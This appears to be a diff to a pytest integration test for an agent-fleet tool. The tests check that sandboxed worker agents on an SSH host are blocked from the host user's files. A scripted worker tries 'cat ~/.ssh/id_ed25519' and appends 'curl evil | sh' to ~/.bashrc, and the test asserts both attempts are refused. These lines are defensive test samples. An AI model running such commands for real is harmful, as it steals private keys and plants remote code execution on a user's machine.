@@ -6,12 +6,17 @@ into config.toml, the user's ssh config names it (a wrapper first on PATH hands 
 test's file: OpenSSH reads ~/.ssh/config from the passwd entry, never $HOME), and
 `fleet-tui host check --yes` installs the pinned claude there with the host's npm, from a
 registry on 127.0.0.1 that serves the pinned version packed once per run with `npm pack`
-(the host's ~/.npmrc names it, as a mirror would be set).
+(the host's ~/.npmrc names it, as a mirror would be set), and beside it the pinned srt
+(the cage's sandbox runtime, packed the same way with the packages it needs): the host's
+workers run in the cage as this machine's do. Before that, the host cannot cage: a task
+for it is refused in one line, before anything exists.
 
 This machine names its own claude (FLEET_WORKER_CLAUDE=~/tools/claude, a path only this
 machine has): none of this machine's paths reaches the host, whose runner runs the claude
 `host check` installed there. A task is launched there, steered with `say`, merged here;
-another is killed, and nothing of it is left on the host.
+another is killed, and nothing of it is left on the host. A caged worker there tries to
+read the host user's planted ~/.ssh/id_ed25519 and to write their ~/.bashrc: both refused,
+each shown as blocked in `logs` and `show`, and its task still merges.
 """
 
 from __future__ import annotations
@@ -33,6 +38,7 @@ from ssh_support import (
     linux_user,
     npm_registry,
     npm_registry_files,
+    npm_srt_files,
     start_sshd,
     token_holders,
 )
@@ -41,6 +47,7 @@ from test_fleet import KEY, SCRIPTS, drive
 from fleet_tui import CLAUDE_CODE_VERSION
 from fleet_tui.demo.endpoint import ScriptedEndpoint
 from fleet_tui.engine.fleet import Fleet, TaskSpec
+from fleet_tui.execution.local import cage
 from fleet_tui.gateway import control
 from fleet_tui.settings.config import load_settings
 from fleet_tui.store.db import Store, TaskState
@@ -66,12 +73,29 @@ USER_SCRIPTS["tokenless"] = [
                            f">/dev/null 2>&1 & {STEP}", "description": "a daemon"}}],
     "never reached",
 ]
+USER_SCRIPTS["caged-there"] = [
+    [{"type": "tool_use", "name": "Bash",
+      "input": {"command": "cat ~/.ssh/id_ed25519", "description": "read the key"}}],
+    [{"type": "tool_use", "name": "Bash",
+      "input": {"command": "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc",
+                "description": "write the shell's start file"}}],
+    [{"type": "tool_use", "name": "Bash",
+      "input": {"command": "echo caged > caged.txt && git add caged.txt && "
+                           "git commit -q -m 'made in the cage' && git log --oneline -1",
+                "description": "commit"}}],
+    "done in the cage",
+]
 
 
 @pytest.fixture(scope="module")
 def registry(tmp_path_factory: pytest.TempPathFactory, claude_bin: str) -> Iterator[str]:
-    """The pinned claude, packed once per run, served as an npm registry on 127.0.0.1."""
-    files = npm_registry_files(claude_bin, tmp_path_factory.mktemp("npm-packed"))
+    """The pinned claude and srt (with what srt needs), packed once per run, served as an
+    npm registry on 127.0.0.1."""
+    srt = cage.find_srt(os.environ)
+    if srt is None:  # scripts/test installs it into .srt/
+        pytest.fail("no srt here to pack for the host (scripts/test installs it)")
+    packed = tmp_path_factory.mktemp("npm-packed")
+    files = {**npm_registry_files(claude_bin, packed), **npm_srt_files(srt, packed / "srt")}
     with npm_registry(files) as url:
         yield url
 
@@ -109,6 +133,10 @@ def _events(fleet: Fleet, task_id: str) -> bytes:
         return b""
     path = Path(attempts[-1].dir) / "events.jsonl"
     return path.read_bytes() if path.exists() else b""
+
+
+def _srt_record(host: sshd.Sshd) -> str:
+    return shlex.quote(f"{host.home}/.fleet-tui-host/srt-path")
 
 
 def _git(cwd: Path, *args: str) -> str:
@@ -153,11 +181,32 @@ def test_a_host_that_is_another_user_on_the_readmes_path(
     assert added.returncode == 0, added.stderr
     assert "[hosts.box]" in config.read_text()
 
-    # the host has no claude: host check says so, then installs the pinned one with npm
+    # the host has no srt yet (the cage's sandbox runtime): host check says so and why, and
+    # a task for it is refused before anything exists, saying what to do
+    first = _cli(env, git_repo, "host", "check", "box", "--json")
+    cage_check = next(c for c in json.loads(first.stdout)["checks"] if c["check"] == "cage")
+    fresh = not user_host.ssh(f"cat {_srt_record(user_host)} 2>/dev/null", check=False)
+    if fresh:  # the module's first test: nothing of ours on the host yet
+        assert not cage_check["ok"] and "it lacks srt" in cage_check["found"], cage_check
+        assert "host check box --yes` installs srt there" in cage_check["fix"], cage_check
+        refused = _cli(env, git_repo, "run", "[script:commit-then-wait] x", "--host", "box")
+        assert refused.returncode == 2, refused.stdout + refused.stderr
+        (line,) = refused.stderr.strip().splitlines()
+        assert "host box cannot cage its workers: it lacks srt" in line, line
+        assert 'cage = "off" in [hosts.box]' in line, line
+        assert _cli(env, git_repo, "ls", "--json").stdout.strip() == "[]"
+        assert _git(git_repo, "branch", "--list", "fleet/*").strip() == ""
+
+    # the host has no claude: host check says so, then installs the pinned one with npm,
+    # and the pinned srt beside it
     checked = _cli(env, git_repo, "host", "check", "box", "--yes", timeout=900)
     assert checked.returncode == 0, checked.stdout + checked.stderr
     installed = f"{user_host.home}/.fleet-tui-host/claude-cli/node_modules/.bin/claude"
     assert "FAIL  claude     not found" in checked.stdout, checked.stdout
+    srt = f"{user_host.home}/.fleet-tui-host/srt/node_modules/{cage.SRT_PACKAGE}"
+    assert f"ok    cage       can cage its workers (srt {cage.SRT_VERSION} at {srt}" \
+        in checked.stdout, checked.stdout
+    assert user_host.ssh(f"cat {_srt_record(user_host)}").strip() == srt
     assert f"ok    claude     {CLAUDE_CODE_VERSION} at {installed}" in checked.stdout, \
         checked.stdout
     assert "ok    python" in checked.stdout
@@ -177,6 +226,8 @@ def test_a_host_that_is_another_user_on_the_readmes_path(
         remote_dir = f"{user_host.home}/.fleet-tui-host/attempts/{task.id}/1"
         spec = json.loads(user_host.ssh(f"cat {shlex.quote(remote_dir)}/spec.json"))
         assert spec["settings"]["claude"] == installed  # the host's own claude
+        assert spec["settings"]["cage"] == "worker"  # caged there, with the host's own srt
+        assert spec["env"][cage.SRT_ENV] == srt
         assert "config_dir" not in spec["settings"]
         there = user_host.ssh(f"cat {shlex.quote(remote_dir)}/spec.json "
                               f"{shlex.quote(remote_dir)}/runner.json")
@@ -298,3 +349,55 @@ def test_a_daemon_that_drops_the_token_ends_with_its_attempt_on_the_users_host(
             close = getattr(host, "close", None)
             if close is not None:
                 close()
+
+
+def test_a_caged_worker_on_the_host_reaches_nothing_of_its_user(
+        tmp_path: Path, git_repo: Path, user_host: sshd.Sshd, registry: str,
+        endpoint: ScriptedEndpoint) -> None:
+    """The host user's key and shell start file are out of a caged worker's reach there:
+    reading the key and writing ~/.bashrc fail, each is shown as blocked in `logs` and
+    `show`, the file stays as it was, and the worker's commit merges here."""
+    secret = "HOST-SSH-SECRET-" + os.urandom(8).hex()
+    user_host.ssh('mkdir -p "$HOME/.ssh" && cat > "$HOME/.ssh/id_ed25519" && '
+                  'chmod 600 "$HOME/.ssh/id_ed25519"', input=secret + "\n")
+    user_host.ssh('cat > "$HOME/.bashrc"', input="# the host user's own\n")
+    user_host.ssh("cat > \"$HOME/.npmrc\"", input=f"registry={registry}\n"
+                  "fund=false\naudit=false\nupdate-notifier=false\n")
+    wrapper = tmp_path / "bin"
+    wrapper.mkdir()
+    (wrapper / "ssh").write_text(f"#!/bin/sh\nexec /usr/bin/ssh -F "
+                                 f"{shlex.quote(str(user_host.client_config))} \"$@\"\n")
+    (wrapper / "ssh").chmod(0o755)
+    config = tmp_path / "config.toml"
+    config.write_text(f'base_url = "{endpoint.url}"\nkey_sources = ["env"]\n'
+                      f"sandbox = true\nmax_attempts = 1\nkill_grace = 2\n")
+    env = dict(os.environ, PATH=f"{wrapper}{os.pathsep}{os.environ['PATH']}",
+               FLEET_TUI_CONFIG=str(config), FLEET_WORKER_GATEWAY="1",
+               ANTHROPIC_AUTH_TOKEN=KEY, CLAUDE_CODE_MAX_RETRIES="0")
+    env.pop(cage.SRT_ENV, None)
+    assert _cli(env, git_repo, "host", "add", "box", ALIAS).returncode == 0
+    checked = _cli(env, git_repo, "host", "check", "box", "--yes", timeout=900)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    assert "ok    cage       can cage its workers" in checked.stdout, checked.stdout
+    try:
+        out = _cli(env, git_repo, "run", "[script:caged-there] try the host's files",
+                   "--host", "box", "--wait", "--json", timeout=600)
+        assert out.returncode == 0, out.stdout + out.stderr
+        (task,) = json.loads(out.stdout)
+        assert task["state"] == "succeeded", task
+        logs = _cli(env, git_repo, "logs", task["id"]).stdout
+        raw = _cli(env, git_repo, "logs", task["id"], "--raw").stdout
+        assert secret not in logs + raw  # the key never reached the worker
+        assert "⊘ blocked: read ~/.ssh/id_ed25519" in logs, logs
+        assert "⊘ blocked: write ~/.bashrc" in logs, logs
+        assert user_host.ssh('cat "$HOME/.bashrc"') == "# the host user's own\n"
+        shown = _cli(env, git_repo, "show", task["id"]).stdout
+        assert "cage:      worker" in shown and "blocked:" in shown, shown
+        assert "⊘ blocked: read ~/.ssh/id_ed25519" in shown, shown
+        assert "[uncaged]" not in _cli(env, git_repo, "ls").stdout
+        merged = _cli(env, git_repo, "merge", task["id"], "--yes")
+        assert merged.returncode == 0, merged.stdout + merged.stderr
+        assert _git(git_repo, "show", "main:caged.txt") == "caged\n"
+        assert "made in the cage" in _git(git_repo, "log", "--format=%s", "main")
+    finally:
+        control.stop(env)
